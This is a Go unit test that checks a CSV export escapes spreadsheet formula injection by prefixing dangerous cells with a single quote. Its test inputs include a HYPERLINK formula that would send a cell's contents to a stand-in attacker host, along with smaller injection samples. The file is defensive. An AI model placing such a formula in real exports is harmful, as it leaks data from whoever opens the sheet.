package main

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/overcloud/overcloud/internal/history"
	"github.com/overcloud/overcloud/internal/history/file"
)

func TestWhatPeopleWroteIsNoFormulaInASpreadsheet(t *testing.T) {
	table := history.Table{What: "answers", Columns: []history.Column{{Name: "why"}, {Name: "until"}}}
	var out strings.Builder
	w, err := file.New(file.CSV, table, &out)
	require.NoError(t, err)
	rows := []history.Row{}
	for _, why := range []string{`=HYPERLINK("http://evil.example?"&A1)`, "@SUM(1)", "-1+cmd", "on my way", ""} {
		rows = append(rows, history.Row{Cells: []history.Value{{Kind: history.Text, Text: why}, {Kind: history.Int, Int: -7}}})
	}
	require.NoError(t, inert{w}.Write(rows))
	require.NoError(t, w.Close())
	lines := strings.Split(strings.TrimSpace(out.String()), "\n")[1:]
	for i, want := range []string{`"'=HYPERLINK(""http://evil.example?""&A1)",-7`, `'@SUM(1),-7`, `'-1+cmd,-7`, `on my way,-7`, `,-7`} {
		require.Equal(t, "1970-01-01T00:00:00.000Z,"+want, lines[i])
	}
	require.Equal(t, "@SUM(1)", rows[1].Cells[0].Text, "the rows are the reader's")
}
